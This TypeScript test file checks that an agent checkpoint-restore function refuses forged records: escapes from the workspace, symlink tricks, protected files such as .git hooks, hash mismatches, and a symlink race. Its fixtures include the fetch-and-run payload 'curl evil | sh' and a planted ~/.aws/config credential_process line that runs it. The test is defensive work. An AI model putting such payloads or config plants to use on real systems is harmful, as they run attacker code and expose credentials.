// The checkpoint store is written by agents (a whole pi or omp in the sandbox has it as a writable
// root): a rewind treats its records and objects as foreign data. Forged records are refused, each
// listed with its reason, and nothing outside the workspace or under a protected name is touched.
import { strict as assert } from "node:assert";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { spawn } from "node:child_process";
import type { RestoreStep } from "../../shared/checkpoints/schema";
import { objectPath, storeObject } from "../../shared/node/checkpoint-store";
import { restoreFiles } from "./restore-files";

describe("checkpoints: restoring refuses forged records", () => {
  let root: string;
  let store: string;
  let work: string;
  let outside: string;
  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "restore-guard-")));
    store = path.join(root, "store");
    work = path.join(root, "work");
    outside = path.join(root, "home");
    fs.mkdirSync(work);
    fs.mkdirSync(outside);
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  const put = (file: string, content: string) => {
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
    return file;
  };
  const evil = () => storeObject(store, Buffer.from("curl evil | sh\n"));
  const write = (p: string, hash = evil()): RestoreStep => ({ path: p, action: "write", hash });
  const refusedOnly = async (step: RestoreStep, reason: RegExp) => {
    const result = await restoreFiles(store, work, [step]);
    assert.deepEqual(result.restored, []);
    assert.deepEqual(result.deleted, []);
    assert.equal(result.failed.length, 1, "the refused record is listed");
    assert.equal(result.failed[0].path, step.path);
    assert.match(result.failed[0].reason, reason);
  };

  it("restores a record inside the workspace (the control)", async () => {
    const a = put(path.join(work, "src", "a.txt"), "now");
    const gone = put(path.join(work, "new.txt"), "created");
    const result = await restoreFiles(store, work, [write(a, storeObject(store, Buffer.from("before"))), { path: gone, action: "delete" }]);
    assert.deepEqual(result.failed, []);
    assert.equal(fs.readFileSync(a, "utf8"), "before");
    assert.equal(fs.existsSync(gone), false);
  });

  it("refuses to write or delete a file outside the workspace", async () => {
    const bashrc = put(path.join(outside, ".bashrc"), "mine\n");
    await refusedOnly(write(bashrc), /outside the session.s workspace folder/);
    await refusedOnly({ path: bashrc, action: "delete" }, /outside the session.s workspace folder/);
    await refusedOnly(write(path.join(outside, "new-file")), /outside the session.s workspace folder/);
    await refusedOnly(write(path.join(work, "..", "home", ".bashrc")), /outside the session.s workspace folder/);
    assert.equal(fs.readFileSync(bashrc, "utf8"), "mine\n");
    assert.equal(fs.existsSync(path.join(outside, "new-file")), false);
  });

  it("refuses a path that leaves the workspace through a symlink, and a relative path", async () => {
    const bashrc = put(path.join(outside, ".bashrc"), "mine\n");
    fs.symlinkSync(outside, path.join(work, "link"));
    fs.symlinkSync(bashrc, path.join(work, "rc"));
    await refusedOnly(write(path.join(work, "link", ".bashrc")), /outside the session.s workspace folder/);
    await refusedOnly(write(path.join(work, "rc")), /outside the session.s workspace folder/);
    await refusedOnly(write("rc"), /not an absolute path/);
    assert.equal(fs.readFileSync(bashrc, "utf8"), "mine\n");
  });

  it("deletes a symlink the turn created, never the file it points to", async () => {
    const bashrc = put(path.join(outside, ".bashrc"), "mine\n");
    fs.symlinkSync(bashrc, path.join(work, "rc"));
    const result = await restoreFiles(store, work, [{ path: path.join(work, "rc"), action: "delete" }]);
    assert.deepEqual(result.failed, []);
    assert.equal(fs.existsSync(path.join(work, "rc")), false);
    assert.equal(fs.readFileSync(bashrc, "utf8"), "mine\n");
  });

  it("refuses protected names: .git/config, a nested repository's hooks, .vscode, letter case, through a symlink", async () => {
    const config = put(path.join(work, ".git", "config"), "[core]\n");
    await refusedOnly(write(config), /protected/);
    await refusedOnly({ path: config, action: "delete" }, /protected/);
    await refusedOnly(write(path.join(work, "sub", ".git", "hooks", "pre-commit")), /protected/);
    await refusedOnly(write(path.join(work, ".vscode", "tasks.json")), /protected/);
    await refusedOnly(write(path.join(work, ".GIT", "config")), /protected/);
    await refusedOnly(write(path.join(work, ".envrc")), /protected/);
    fs.symlinkSync(path.join(work, ".git"), path.join(work, "innocent"));
    await refusedOnly(write(path.join(work, "innocent", "config")), /protected/);
    assert.equal(fs.readFileSync(config, "utf8"), "[core]\n");
    assert.equal(fs.existsSync(path.join(work, "sub", ".git")), false);
  });

  it("refuses an object whose content does not match its hash", async () => {
    const a = put(path.join(work, "a.txt"), "now");
    const hash = storeObject(store, Buffer.from("before"));
    fs.writeFileSync(objectPath(store, hash), "forged content");
    await refusedOnly(write(a, hash), /does not match/);
    assert.equal(fs.readFileSync(a, "utf8"), "now");
  });

  it("refuses an object that is a symlink to a file outside the store, even with the right hash", async () => {
    const secret = put(path.join(outside, "id_rsa"), "PRIVATE KEY");
    const hash = createHash("sha256").update("PRIVATE KEY").digest("hex");
    fs.mkdirSync(path.dirname(objectPath(store, hash)), { recursive: true });
    fs.symlinkSync(secret, objectPath(store, hash));
    const a = put(path.join(work, "a.txt"), "now");
    await refusedOnly(write(a, hash), /not a regular file|pruned/);
    assert.equal(fs.readFileSync(a, "utf8"), "now");
  });

  it("home opened as the workspace: writes and deletes nothing in a home secret the sandbox hides (~/.aws/config's credential_process)", async () => {
    const home = process.env.HOME;
    process.env.HOME = work;
    try {
      const config = put(path.join(work, ".aws", "config"), "[default]\n");
      const key = put(path.join(work, ".ssh", "id_ed25519"), "KEY\n");
      const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
      await refusedOnly(write(config, plant), /hides/);
      await refusedOnly(write(path.join(work, ".kube", "config"), plant), /hides/);
      await refusedOnly({ path: key, action: "delete" }, /hides/);
      assert.equal(fs.readFileSync(config, "utf8"), "[default]\n");
      assert.equal(fs.existsSync(key), true);
      assert.equal(fs.existsSync(path.join(work, ".kube", "config")), false);
    } finally {
      process.env.HOME = home;
    }
  });

  it("home opened as the workspace: never writes ~/.aws/config while a job flips a folder on a record's way to a link there", async function () {
    this.timeout(30_000);
    const home = process.env.HOME;
    process.env.HOME = work;
    const config = put(path.join(work, ".aws", "config"), "[default]\n");
    put(path.join(work, "d", "config"), "mine\n");
    const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
    // d is a folder when the record is judged, a link to .aws when it is written (renames, as fast as they go).
    const flipper = spawn("sh", ["-c", "while :; do mv d d.real 2>/dev/null; ln -s .aws d 2>/dev/null; rm -f d 2>/dev/null; mv d.real d 2>/dev/null; done"], { cwd: work, stdio: "ignore", detached: true });
    let tries = 0;
    try {
      for (const end = Date.now() + 3000; Date.now() < end && !fs.readFileSync(config, "utf8").includes("evil"); tries++) {
        await restoreFiles(store, work, [write(path.join(work, "d", "config"), plant)]);
      }
    } finally {
      process.kill(-flipper.pid!, "SIGKILL");
      await new Promise((resolve) => flipper.once("exit", resolve));
      process.env.HOME = home;
    }
    assert.equal(fs.readFileSync(config, "utf8"), "[default]\n", `landed after ${tries} rewinds`);
  });
});
